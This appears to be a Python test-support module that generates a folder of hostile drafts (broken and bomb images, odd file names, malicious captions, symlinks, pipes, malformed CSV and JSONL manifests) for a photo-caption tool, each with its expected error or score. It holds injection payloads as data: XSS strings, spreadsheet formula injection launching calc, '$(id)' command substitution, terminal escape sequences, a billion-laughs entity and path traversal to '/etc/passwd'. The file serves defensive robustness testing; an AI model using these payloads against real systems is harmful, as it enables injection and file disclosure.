"""Everything a stranger may put into a folder of drafts, made in code, each with what must happen.

``python -m tests.support.hostile FOLDER`` writes the folder. Nothing in it comes from elsewhere, and the
same seed makes the same bytes wherever the same encoders are installed.
"""

from __future__ import annotations

import json
import os
import random
import socket
import stat
import sys
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from tests.support import hostile_files as made

if TYPE_CHECKING:
    from collections.abc import Iterator

CAPTION = "Warga bergotong royong membersihkan saluran air di depan balai desa."

# What may become of a draft: a fit, no fit but no error, or an error's name.
SCORED = frozenset(["scored"])
READ = SCORED | {"unsure"}
UNREADABLE = frozenset(["PhotoUnreadableError", "PhotoKindError"])
DAMAGED = SCORED | UNREADABLE
TOO_LARGE = frozenset(["PhotoTooLargeError"])
SHAPE = frozenset(["PhotoShapeError"])


def _error(name: str) -> frozenset[str]:
    return frozenset([name])


@dataclass(frozen=True, slots=True)
class Item:
    """One draft and what may become of it.

    Attributes:
        name: Its id in the results.
        outcomes: ``"scored"``, ``"unsure"`` or names of errors, of which one must come.
    """

    name: str
    outcomes: frozenset[str]


@dataclass(frozen=True, slots=True)
class Manifest:
    """A manifest.

    Attributes:
        path: Its file.
        items: Its rows in order; None where the whole must be refused.
        refusal: The error that refuses it.
    """

    path: Path
    items: tuple[Item, ...] | None
    refusal: str = ""


@dataclass(frozen=True, slots=True)
class Hostile:
    """What was written.

    Attributes:
        drafts: The folder with photos and captions beside them.
        items: Its drafts, in no order.
        manifests: Manifests, in a folder beside it.
    """

    drafts: Path
    items: tuple[Item, ...]
    manifests: tuple[Manifest, ...]

    @property
    def accepted(self) -> list[Manifest]:
        """The manifests that are read, whatever becomes of their rows."""
        return [manifest for manifest in self.manifests if manifest.items is not None]


def write(folder: Path, *, seed: int = 0) -> Hostile:
    """Write the hostile folder.

    Args:
        folder: Where; made if need be, and must be empty.
        seed: Of everything that is random.

    Returns:
        What was written and what must become of it.
    """
    folder.mkdir(parents=True, exist_ok=True)
    drafts = folder / "drafts"
    generator = random.Random(seed)  # noqa: S311 - no secret
    items = [
        *_photos(drafts / "photos", generator),
        *_names(drafts / "names"),
        *_captions(drafts / "captions", generator),
        *_places(drafts / "places", folder / "outside"),
    ]
    # Named from the folder that is given, as the command names them.
    named = tuple(Item(f"{kind}/{item.name}", item.outcomes) for kind, item in items)
    return Hostile(drafts, named, tuple(_manifests(folder / "manifests", generator)))


def _put(path: Path, data: bytes | str) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)


# --- photos --------------------------------------------------------------------------------------


def _photos(folder: Path, generator: random.Random) -> Iterator[tuple[str, Item]]:
    """Write photos that share one caption, which is good."""
    _put(folder / "caption.txt", CAPTION)
    for name, data, outcomes in _photo_items(generator):
        _put(folder / name, data)
        yield "photos", Item(name, outcomes)


def _photo_items(generator: random.Random) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    jpeg = made.photo("jpg", generator)
    yield from _kinds(generator, jpeg)
    yield from _sizes(jpeg)
    yield from _lengths()
    yield from _structures(generator, jpeg)


def _kinds(generator: random.Random, jpeg: bytes) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    """Yield every format whole and cut, what is none, and every mode."""
    for suffix in made.FORMATS:
        whole = made.photo(suffix, generator)
        yield f"whole.{suffix}", whole, SCORED
        for tenth in range(10):
            cut = whole[: len(whole) * tenth // 10]
            yield f"cut{tenth}.{suffix}", cut, DAMAGED if tenth else UNREADABLE
    yield "wrong-suffix.png", jpeg, SCORED
    yield "text.jpg", b"Rapat koordinasi di aula.\n", UNREADABLE
    yield "noise.jpg", generator.randbytes(20_000), UNREADABLE
    yield "zeros.jpg", bytes(20_000), UNREADABLE
    yield "junk-behind.jpg", jpeg + generator.randbytes(50_000), SCORED
    yield "junk-before.jpg", b"\n" + jpeg, UNREADABLE
    for name, kind, mode in made.UNWELCOME:
        yield name, made.encoded(kind, mode), UNREADABLE
    yield from ((name, data, UNREADABLE) for name, data in made.DOCUMENTS.items())
    for name, kind, mode in made.MODES:
        yield name, made.encoded(kind, mode), SCORED
    yield "mpo.jpg", made.mpo(generator), SCORED


def _sizes(jpeg: bytes) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    """Yield what is too small, too large, or lies about it, and bombs."""
    yield "1x1.png", made.flat_png(1, 1), SHAPE
    yield "5000x3.png", made.flat_png(5000, 3), SHAPE
    yield "declared-30000.png", made.declared_png(30_000, 30_000), TOO_LARGE
    yield "declared-8000.png", made.declared_png(8_000, 8_000), TOO_LARGE
    yield "declared-7000.png", made.declared_png(7_000, 7_000), UNREADABLE
    yield "declared-max.png", made.declared_png(2**31 - 1, 2**31 - 1), TOO_LARGE
    yield "declared-0.png", made.declared_png(0, 0), UNREADABLE | SHAPE
    yield "lying.jpg", made.lying_jpeg(jpeg, 60_000, 60_000), TOO_LARGE
    yield "lying-11000.jpg", made.lying_jpeg(jpeg, 10_900, 10_900), DAMAGED
    yield "lying.webp", made.lying_webp(16_383, 16_383), TOO_LARGE
    yield "lying-canvas.webp", made.lying_webp(5_000, 4_900), UNREADABLE
    yield "lying.gif", made.lying_gif(60_000, 60_000), TOO_LARGE
    yield "lying-7000.gif", made.lying_gif(7_000, 7_000), SCORED
    yield "lying.avif", made.lying_ispe("AVIF", 60_000, 60_000), TOO_LARGE | UNREADABLE
    yield "lying.heic", made.lying_ispe("HEIF", 60_000, 60_000), TOO_LARGE | UNREADABLE
    yield "small-ispe.avif", made.lying_ispe("AVIF", 32, 32), DAMAGED
    yield "small-ispe.heic", made.lying_ispe("HEIF", 32, 32), DAMAGED
    yield "bomb-rgba16.png", made.flat_png(7_000, 7_000, depth=16, colour=6), SCORED
    yield "bomb-grey16.png", made.flat_png(7_000, 7_000, depth=16, colour=0), SCORED
    yield "bomb-alpha.png", made.flat_png(7_000, 7_000, colour=4), SCORED
    yield "bomb.webp", made.flat_webp(16_000, 16_000), TOO_LARGE
    yield "bomb-5000.webp", made.flat_webp(4_990, 4_990), SCORED
    yield "bomb-floats.tiff", made.flat_tiff_of_floats(5_000, 5_000), SCORED
    yield "bomb-tile.tiff", made.tiff_of_one_tile(100, 40_000), UNREADABLE


def _lengths() -> Iterator[tuple[str, bytes, frozenset[str]]]:
    """Yield what has many frames, or much beside its pixels."""
    yield "frames.gif", made.gif_of_frames(10_000), SCORED
    yield "frames.png", made.apng_of_frames(10_000), SCORED
    yield "many-chunks.png", made.png_with(made.chunk(b"ruSt", b"") * 200_000), UNREADABLE
    yield "huge-ztxt.png", made.png_with(made.text_chunk(b"zTXt", 200_000_000)), DAMAGED
    yield "huge-itxt.png", made.png_with(made.text_chunk(b"iTXt", 200_000_000)), DAMAGED
    yield "huge-iccp.png", made.png_with(made.text_chunk(b"iCCP", 200_000_000)), DAMAGED
    yield "comments.gif", made.gif_of_comments(1_200_000), UNREADABLE
    yield "long-comment.gif", made.gif_of_comments(20_000), SCORED


def _structures(
    generator: random.Random, jpeg: bytes
) -> Iterator[tuple[str, bytes, frozenset[str]]]:
    """Yield JPEG and TIFF whose parts are broken, endless or ask for too much."""
    yield "scans.jpg", made.jpeg_of_scans(4_000, 3_000, 1_000), UNREADABLE
    yield "segments.jpg", made.with_segments(jpeg, made.segment(0xFE, b"x") * 6_000), UNREADABLE
    yield "stray.jpg", made.with_segments(jpeg, bytes(1_000_000)), UNREADABLE
    yield "broken-icc.jpg", made.with_segments(jpeg, made.icc(generator.randbytes(900))), SCORED
    yield "icc-parts.jpg", made.with_segments(jpeg, made.icc(b"x", part=200, of=3)), SCORED
    yield "orientation9.jpg", made.with_exif(jpeg, made.orientation(9)), SCORED
    yield "orientation-text.jpg", made.with_exif(jpeg, made.orientation(0x656E696E, kind=2)), SCORED
    yield "recursive-ifd.jpg", made.with_exif(jpeg, made.recursive_ifd()), SCORED
    yield "noise-exif.jpg", made.with_exif(jpeg, generator.randbytes(9_000)), SCORED
    yield "exif-10mb.jpg", made.with_exif(jpeg, made.large_exif(10_000_000)), SCORED
    yield "exif-crumbs.jpg", made.exif_in_crumbs(jpeg, 300_000), UNREADABLE
    yield "exif-overlaps.jpg", made.with_exif(jpeg, made.overlapping_tags(5_000)), UNREADABLE
    yield "overlaps.tiff", made.overlapping_tags(1_900, pad=4_000_000), UNREADABLE
    yield "cyclic.tiff", made.cyclic_tiff(generator), SCORED
    yield "pages.tiff", made.tiff_of_pages(10_000), SCORED
    yield "strips.tiff", made.tiff_of_strips(3_000_000), UNREADABLE
    yield "xmp-10mb.jpg", made.with_segments(jpeg, made.long_segments(0xE1, 10_000_000)), SCORED
    yield "app13-10mb.jpg", made.with_segments(jpeg, made.long_segments(0xED, 10_000_000)), SCORED
    yield "xmp-entities.jpg", made.with_segments(jpeg, made.xmp(made.BILLION_LAUGHS)), SCORED


# --- names ---------------------------------------------------------------------------------------

NAMES = (
    b"two\nlines.jpg",
    b"carriage\rreturn.jpg",
    b"tab\there.jpg",
    b"\x1b[31mred\x1b[0m.jpg",
    b"\x1b]8;;https:x\x07link\x1b]8;;\x07.jpg",
    "c1\u009b31m.jpg".encode(),
    "emoji😀👩‍👩‍👧‍👦.jpg".encode(),
    "gpj.\u202eexe.jpg".encode(),
    "שלום.jpg".encode(),
    ("é" * 125 + "x").encode() + b".jpg",  # 255 bytes, as long as a name may be
    b"not-\xff\xfe-utf8.jpg",
    b"lone-\xed\xa0\xbd-surrogate.jpg",
    b"<script>alert(1)<\\script>.jpg",
    b"'\"><img src=x onerror=alert(1)>.jpg",
    b"[bold red]markup[link=file:x]y.jpg",
    b'=HYPERLINK("http:x","y").jpg',
    b"@SUM(1+1).jpg",
    b"-rf.jpg",
    b"{{7*7}}{0}%s%n.jpg",
    b" leading and trailing .jpg",
    b"CON.jpg",
    b"a\\b.jpg",
    "\ufeffbom.jpg".encode(),
    b"UPPER.JPEG",
)


def _names(folder: Path) -> Iterator[tuple[str, Item]]:
    """Write one good photo under many names."""
    _put(folder / "caption.txt", CAPTION)
    data = made.photo("jpg", random.Random(1))  # noqa: S311
    for name in map(os.fsdecode, NAMES):
        _put(folder / name, data)
        yield "names", Item(name, SCORED)


# --- captions ------------------------------------------------------------------------------------

MARKUP = (
    "<script>alert(1)</script> Warga bergotong royong di balai desa.",
    "Warga di balai desa. <img src=x onerror=alert(1)> <svg/onload=alert(1)>",
    "Warga di balai desa. </textarea></style></title><style>*{display:none}</style>",
    "{{ 7*7 }} {% raw %} Warga bergotong royong di balai desa.",
    '=HYPERLINK("http://x.invalid/?"&A1,"warga bergotong royong di balai desa")',
    "+SUM(1)*cmd|' /C calc'!A0 warga bergotong royong di balai desa",
    "-2+3+cmd|' /C calc'!A0 warga bergotong royong di balai desa",
    "@SUM(1+9) warga bergotong royong di balai desa",
    "\t=1+1 warga bergotong royong di balai desa",
    "\x1b[2J\x1b[31mWarga\x1b[0m bergotong royong di balai desa\x07",
    "\x1b]8;;https://x.invalid\x1b\\Warga\x1b]8;;\x1b\\ bergotong royong di balai desa",
    "\u009b31mWarga\u009d bergotong royong di balai desa",
    "Warga \u202egnoyor gnotogreb\u202c di balai desa",
    "[bold]Warga[/bold] [link=https://x.invalid]bergotong royong[/link] di balai desa",
    "%s %n {0} {draft} $(id) `id` ${HOME} warga bergotong royong di balai desa",
)


def _captions(folder: Path, generator: random.Random) -> Iterator[tuple[str, Item]]:
    """Write captions beside good photos, no two alike."""
    unreadable = _error("CaptionUnreadableError")
    written: list[tuple[bytes | str, frozenset[str]]] = [
        ("", _error("CaptionEmptyError")),
        (" \n\t\r\n ", _error("CaptionEmptyError")),
        ("Warga " * 1_700_000, unreadable),
        ("Warga bergotong royong. " * 2_100, _error("CaptionTooLongError")),
        ("Warga bergotong royong di balai desa. " * 1_200, READ),
        (generator.randbytes(3_000), unreadable),
        (CAPTION.encode("utf-16"), SCORED),
        (CAPTION.encode("utf-16-le"), unreadable),
        (CAPTION.encode("utf-32"), unreadable),
        ("Kafé di désa".encode("latin-1"), unreadable),
        ("\ufeff" + CAPTION, SCORED),
        ("Warga bergotong royong.\r\nDi balai desa.\rHadir kepala desa.\nSelesai.", SCORED),
        ("Warga bergotong\0royong di balai desa", unreadable),
        ("😀😃👨‍👩‍👧🇮🇩", frozenset(["unsure"])),
        ("#a #b #c", frozenset(["unsure"])),
        ("https://x.invalid/a?b=c", frozenset(["unsure"])),
        ("\u200b\u200d\ufeff\u2060", frozenset(["unsure"])),
        ("\u0301" * 5_000, frozenset(["unsure"])),
        ("Wa\u0301\u0302\u0303\u0304" + "\u0301" * 3_000 + "rga di balai desa", READ),
        ("a" * 49_000, READ),
        ("ﷺ" * 40_000, _error("CaptionTooLongError")),
        ("\ue000\ue001\ue002 Warga bergotong royong di balai desa", READ),
        *((text, READ) for text in MARKUP),
    ]  # fmt: skip
    for number, (text, outcomes) in enumerate(written):
        name = f"{number:02}.jpg"
        _put(folder / name, made.photo("jpg", generator))
        _put(folder / f"{number:02}.txt", text)
        yield "captions", Item(name, outcomes)
    # A caption that nobody has, two for one photo, and one without a photo.
    _put(folder / "alone.jpg", made.photo("jpg", generator))
    yield "captions", Item("alone.jpg", _error("CaptionMissingError"))
    _put(folder / "two.jpg", made.photo("jpg", generator))
    _put(folder / "two.txt", CAPTION)
    _put(folder / "two.md", CAPTION)
    yield "captions", Item("two.jpg", _error("CaptionAmbiguousError"))
    _put(folder / "orphan.txt", CAPTION)
    yield "captions", Item("orphan.txt", _error("PhotoMissingError"))


# --- places --------------------------------------------------------------------------------------


def _places(folder: Path, outside: Path) -> Iterator[tuple[str, Item]]:
    """Write what is no file: folders, links, pipes, sockets, devices, and what may not be read."""
    _put(folder / "caption.txt", CAPTION)
    data = made.photo("jpg", random.Random(2))  # noqa: S311
    _put(outside / "private.jpg", data)
    _put(outside / "secret.txt", "rahasia\n")
    left, unsearched = _error("PhotoOutsideError"), _error("FolderUnreadableError")
    for name, target, outcomes in [
        ("good-link.jpg", "real.jpg", SCORED),
        ("broken-link.jpg", "gone.jpg", _error("PhotoMissingError")),
        ("circle.jpg", "circle.jpg", UNREADABLE),
        ("circle-a.jpg", "circle-b.jpg", UNREADABLE),
        ("circle-b.jpg", "circle-a.jpg", UNREADABLE),
        ("long-link.jpg", "x" * 300, UNREADABLE),
        ("outside.jpg", str(outside / "private.jpg"), left),
        ("relative.jpg", "../../outside/private.jpg", left),
        ("zero.jpg", "/dev/zero", left),
        ("stdin.jpg", "/dev/stdin", left),
        ("pagemap.jpg", "/proc/self/pagemap", left),
        ("away", str(outside), unsearched),
        ("up.jpg", "..", UNREADABLE),
    ]:
        (folder / name).symlink_to(target)
        yield "places", Item(name, outcomes)
    (folder / "inner-circle").symlink_to(".")  # leads nowhere new: no draft
    _put(folder / "real.jpg", data)
    yield "places", Item("real.jpg", SCORED)
    _put(folder / "told.jpg", data)
    (folder / "told.txt").symlink_to(outside / "secret.txt")
    yield "places", Item("told.jpg", _error("CaptionUnreadableError"))
    (folder / "folder.jpg").mkdir()
    yield "places", Item("folder.jpg", UNREADABLE)
    os.mkfifo(folder / "pipe.jpg")
    yield "places", Item("pipe.jpg", UNREADABLE)
    _put(folder / "piped.jpg", data)
    os.mkfifo(folder / "piped.txt")
    yield "places", Item("piped.jpg", _error("CaptionUnreadableError"))
    _bind(folder / "socket.jpg")
    yield "places", Item("socket.jpg", UNREADABLE)
    if _made_device(folder / "device.jpg"):
        yield "places", Item("device.jpg", UNREADABLE)
    # The modes are set by `close`, so that the folder can be looked at and removed before.
    _put(folder / "forbidden.jpg", data)
    yield "places", Item("forbidden.jpg", UNREADABLE)
    for name in ("unlisted", "unentered"):
        _put(folder / name / "a.jpg", data)
        yield "places", Item(name, unsearched)


def close(hostile: Hostile, *, closed: bool = True) -> None:
    """Take away the permissions of what must not be readable, or give them back.

    Args:
        hostile: What `write` returned.
        closed: Whether to take them away.
    """
    places = hostile.drafts / "places"
    for name, mode in (("forbidden.jpg", 0), ("unlisted", 0), ("unentered", stat.S_IRUSR)):
        (places / name).chmod(mode if closed else stat.S_IRWXU)


def _bind(path: Path) -> None:
    """Make a socket; by a short name, since a socket's may have 100 bytes."""
    folder = os.open(path.parent, os.O_RDONLY)
    try:
        with socket.socket(socket.AF_UNIX) as door:
            door.bind(f"/proc/self/fd/{folder}/{path.name}")
    finally:
        os.close(folder)


def _made_device(path: Path) -> bool:
    """Make a device that never ends, if this user may."""
    try:
        os.mknod(path, stat.S_IFCHR | 0o644, os.makedev(1, 5))
    except OSError:
        return False
    return True


# --- manifests -----------------------------------------------------------------------------------


def _manifests(folder: Path, generator: random.Random) -> Iterator[Manifest]:
    """Write manifests, each with a photo of its own: a draft of two manifests is one draft."""

    def beside(name: str) -> Path:
        home = folder / name.replace(".", "-")
        _put(home / "a.jpg", made.photo("jpg", generator))
        return home / name

    _put(folder.parent / "outside/private.jpg", made.photo("jpg", generator))
    paths_csv = beside("paths.csv")
    for name, target in [
        ("link.jpg", "../../outside/private.jpg"),
        ("circle.jpg", "circle.jpg"),
        ("place", "../../outside"),
    ]:
        (paths_csv.parent / name).symlink_to(target)

    left, row = _error("PhotoOutsideError"), _error("ManifestRowError")
    missing, empty = _error("PhotoMissingError"), _error("CaptionEmptyError")
    paths = [
        ("a.jpg", SCORED), ("../../outside/private.jpg", left), ("..\\..\\outside\\private.jpg", left),
        ("/etc/passwd", left), ("link.jpg", left), ("place/private.jpg", left),
        ("./x/../a.jpg", missing), ("circle.jpg", left | UNREADABLE), ("C:\\a.jpg", missing),
        ("\\\\server\\share\\a.jpg", left), ("file:///etc/passwd", missing), ("gone.jpg", missing),
        ("x" * 300 + ".jpg", UNREADABLE), ("~/a.jpg", missing), (".", UNREADABLE),
        ("a.jpg/", SCORED), ("a.jpg/b.jpg", UNREADABLE | missing), ("http://x.invalid/a.jpg", missing),
    ]  # fmt: skip
    yield _table(paths_csv, [[p, CAPTION] for p, _ in paths], paths)
    yield _table(
        beside("ids.csv"),
        [["a.jpg", CAPTION, "same"]] * 3 + [["a.jpg", "", "same"]],
        [("same", SCORED)] * 3 + [("same", empty)],
        header=["photo", "caption", "id"],
    )
    hostile = [["a.jpg", text, text] for text in MARKUP]
    yield _table(
        beside("markup.csv"), hostile, [(text.strip(), READ) for text in MARKUP],
        header=["photo", "caption", "id"],
    )  # fmt: skip
    yield _table(
        beside("ragged.csv"),
        [["a.jpg", CAPTION], ["a.jpg"], ["a.jpg", CAPTION, "x"], [CAPTION], ["", CAPTION], [""]],
        [("a.jpg", SCORED), ("a.jpg", empty), ("4", row), (CAPTION, empty), ("6", missing)],
    )
    yield _table(
        beside("wide.csv"),
        [["a.jpg", CAPTION, *"x" * 4_998]],
        [("a.jpg", SCORED)],
        header=["photo", "caption", *(f"column {n}" for n in range(4_998))],
    )
    yield _table(
        beside("large-cell.csv"),
        [["a.jpg", "x " * 200_000], ["a.jpg", CAPTION]],
        [("2", row), ("a.jpg", SCORED)],
    )
    yield _text(
        beside("ends.tsv"),
        f"foto\tketerangan\r\na.jpg\t{CAPTION}\ra.jpg\t{CAPTION}\na.jpg\t{CAPTION}",
        [("a.jpg", SCORED)] * 3,
    )
    yield _text(
        beside("utf16.csv"),
        f"photo;caption\na.jpg;{CAPTION}\n".encode("utf-16"),
        [("a.jpg", SCORED)],
    )
    yield _text(
        beside("unclosed.csv"),
        f'photo,caption\na.jpg,{CAPTION}\na.jpg,"no end\na.jpg,{CAPTION}\n',
        [("a.jpg", SCORED), ("a.jpg", READ)],
    )
    lines: list[tuple[str, str, frozenset[str]]] = [
        (json.dumps({"photo": "a.jpg", "caption": CAPTION}), "a.jpg", SCORED),
        ("[" * 100_000, "2", row),
        ("null", "3", row),
        ('{"photo": "a.jpg"}', "4", _error("ManifestColumnError")),
        ('{"photo": {"a": 1}, "caption": ["x"]}', "{'a': 1}", missing),
        ('{"photo": "a.jpg", "photo": "b.jpg", "caption": "x"}', "b.jpg", missing),
        ('{"photo": "a.jpg", "caption": NaN}', "a.jpg", READ),
        (f'{{"photo": 1{"0" * 5_000}, "caption": "x"}}', "8", row),
        ('{"photo": "a.jpg", "caption": "\\ud83d warga di balai desa"}', "a.jpg", READ),
        ('{"photo": "a\\u0000.jpg", "caption": "x"}', "a\0.jpg", missing),
        ('{"photo": "a.jpg", "caption": "x"', "11", row),
        (json.dumps({"photo": "../outside/private.jpg", "caption": "x"}),
         "../outside/private.jpg", left),
    ]  # fmt: skip
    yield _text(
        beside("lines.jsonl"),
        "\n".join(line for line, _, _ in lines),
        [(name, outcomes) for _, name, outcomes in lines],
    )
    refused: list[tuple[str, bytes | str, str]] = [
        ("columns.csv", "gambarnya,isinya\na.jpg,x\n", "ManifestColumnError"),
        ("header-only-names.csv", "photo\na.jpg\n", "ManifestColumnError"),
        ("empty.csv", "", "ManifestColumnError"),
        ("headless.csv", "photo,caption\n", "DraftsEmptyError"),
        ("blank.jsonl", "\n\n \n", "DraftsEmptyError"),
        ("nulls.csv", "photo,caption\na.jpg,x\0y\n", "ManifestUnreadableError"),
        ("binary.csv", b"\xff\xd8\xff" + bytes(range(256)), "ManifestUnreadableError"),
        ("latin.csv", "photo,caption\na.jpg,désa\n".encode("latin-1"), "ManifestUnreadableError"),
        ("half.csv", "photo,caption\n".encode("utf-16")[:-1], "ManifestUnreadableError"),
    ]
    for name, data, refusal in refused:
        _put(folder / name, data)
        yield Manifest(folder / name, None, refusal)
    (folder / "folder.csv").mkdir()
    yield Manifest(folder / "folder.csv", None, "DraftsEmptyError")
    os.mkfifo(folder / "pipe.csv")
    yield Manifest(folder / "pipe.csv", None, "ManifestUnreadableError")
    (folder / "zero.jsonl").symlink_to("/dev/zero")
    yield Manifest(folder / "zero.jsonl", None, "ManifestUnreadableError")


def _text(path: Path, data: bytes | str, rows: list[tuple[str, frozenset[str]]]) -> Manifest:
    _put(path, data)
    return Manifest(path, tuple(Item(name, outcomes) for name, outcomes in rows))


def _table(
    path: Path,
    rows: list[list[str]],
    items: list[tuple[str, frozenset[str]]],
    header: list[str] | None = None,
) -> Manifest:
    lines = [header or ["photo", "caption"], *rows]
    cells = (",".join('"' + cell.replace('"', '""') + '"' for cell in line) for line in lines)
    return _text(path, "".join(f"{line}\r\n" for line in cells), items)


if __name__ == "__main__":
    written = write(Path(sys.argv[1]))
    counts = (len(written.items), sum(len(m.items or ()) for m in written.manifests))
    print(f"{counts[0]} drafts, {len(written.manifests)} manifests of {counts[1]} rows")  # noqa: T201
